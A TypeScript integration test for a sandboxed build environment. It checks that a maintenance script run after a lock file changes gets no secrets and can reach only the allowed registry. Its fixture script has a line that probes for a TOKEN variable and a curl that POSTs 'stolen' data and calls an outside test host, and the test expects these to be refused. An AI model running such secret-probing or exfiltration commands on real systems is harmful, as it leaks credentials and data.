import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readiedInWords } from '../../src-main/domain/readied-words.ts';
import { runEnd, startDrydock, wholeLog, type TestDrydock } from '../support/drydock.ts';
import { repositoryAt } from '../support/repository.ts';
import { addSmallProject, type SmallProject } from '../support/small-project.ts';
import { startWorld, type World } from '../support/world.ts';

const MAINTENANCE = [
  'env | grep -c TOKEN > ~/secrets-seen || true',
  'for name in $(cat deps.lock); do',
  '  code=$(curl -sS -o ~/got-$name -w "%{http_code}" http://registry.test/$name)',
  '  if [ "$code" != 200 ]; then echo "E$code GET http://registry.test/$name"; exit 7; fi',
  'done',
  'curl -sS -X POST -d stolen http://registry.test/sent; curl -sS http://elsewhere.test/',
  'cp deps.lock ~/installed',
].join('\n');

describe('a result with another lock file', () => {
  let test: TestDrydock;
  let small: SmallProject;
  let world: World;

  beforeAll(async () => {
    world = await startWorld((path) => (path.startsWith('/private') ? 401 : 200));
    test = await startDrydock({ reach: world.reach });
    small = await addSmallProject(test);
    await test.drydock.core.deps.secrets.keep(small.project.id, 'TOKEN', { kind: 'value', value: 'tok_3c1d-8Qz/9+secret' });
    const repository = repositoryAt(small.repository);
    repository.write('deps.lock', 'left\n');
    repository.commit('A lock file');
    await small.setEnvironment({
      lockFiles: ['deps.lock'], variables: { npm_config_registry: 'http://registry.test/' }, secrets: [{ name: 'TOKEN', file: null }],
      setup: 'cp deps.lock ~/installed; echo "$TOKEN" | wc -c > ~/of-setup', maintenance: MAINTENANCE,
    });
  });
  afterAll(async () => {
    await test.dispose();
    await small.remove();
    world.close();
  });

  const evidence = async (command: string, checks: readonly object[]) => {
    world.seen.length = 0;
    const run = await runEnd(test, (await small.script(command, { checks: checks as never })).id);
    return { run, items: (await test.client.runs.evidence({ runId: run.id })).items, log: (await wholeLog(test, run.id)).toString() };
  };

  it('is checked in an environment that maintenance made ready, with the registries alone and no secret, once; then without any network', async () => {
    const { items, log, run } = await evidence('echo "left right" > deps.lock; rm README.md', [
      { command: 'grep -q right ~/installed && grep -q hello ~/got-right && grep -q ^0 ~/secrets-seen && test -s ~/of-setup && test ! -e README.md', expect: 'failsThenPasses' },
      { command: 'test ! -e ~/mark && touch ~/mark && test "$(ls /sys/class/net)" = lo && ! curl -sS --max-time 3 http://registry.test/ && test ! -e /drydock/none' },
      { command: 'test ! -e ~/mark && grep -q left ~/installed' },
    ]);
    expect([items.map(({ verdict }) => verdict), log]).toEqual([['passed', 'passed', 'passed'], expect.stringContaining('deps.lock changed: maintenance runs before the checks')]);
    const readied = items[0]?.result?.readied;
    expect(readied).toMatchObject({ script: 'maintenance', changed: ['deps.lock'], hosts: expect.arrayContaining(['registry.test']), refused: ['elsewhere.test'], problem: null });
    expect(items.map(({ result }) => result?.readied)).toEqual([readied, readied, readied]);
    expect(items.map(({ base }) => base?.readied)).toEqual([undefined, undefined, undefined]);
    expect(readiedInWords(readied ?? expect.unreachable())).toMatch(/^Made ready for the changed deps.lock by maintenance, with reading from .*registry\.test.* alone and without secrets\.$/);
    expect(world.seen.map(({ method, url }) => `${method} ${url}`)).toEqual(['GET /left', 'GET /right']);
    expect(run.state.name).toBe('reviewable');
    await expect.poll(() => test.labelled(), { timeout: 15_000 }).toEqual({ containers: [], images: [run.turns[0]?.snapshot?.image] });
  });

  it('that a registry refuses fails its checks, with words that name it', async () => {
    const { items, run } = await evidence('echo "left private-one" > deps.lock', [{ command: 'true' }, { command: 'echo never run' }]);
    expect([run.state.name, items.map(({ verdict, base }) => [verdict, base?.exitCode])]).toEqual(['reviewable', [['failed', 0], ['failed', 0]]]);
    for (const { result } of items) {
      expect(result).toMatchObject({ exitCode: null, timedOut: false });
      expect(result?.readied?.problem).toMatch(/maintenance ended with status 7, with reading from .*registry\.test.*It said: .*E401 GET http:\/\/registry\.test\/private-one/);
    }
    expect((await wholeLog(test, run.id, 'check:1:result')).toString()).toBe('');
    expect(world.seen).toHaveLength(2);
  });

  it('that leaves the lock files alone is checked on the snapshot; without a maintenance script setup makes it ready', async () => {
    const plain = await evidence('echo 1 > other', [{ command: 'true' }]);
    expect([plain.items[0]?.verdict, plain.items[0]?.result?.readied, world.seen]).toEqual(['passed', undefined, []]);
    await small.setEnvironment({ lockFiles: ['deps.lock'], setup: 'cp deps.lock ~/installed', maintenance: '' });
    const without = await evidence('echo other > deps.lock', [{ command: 'grep -q other ~/installed', expect: 'failsThenPasses' }]);
    expect([without.items[0]?.verdict, without.items[0]?.result?.readied?.script]).toEqual(['passed', 'setup']);
  });
});
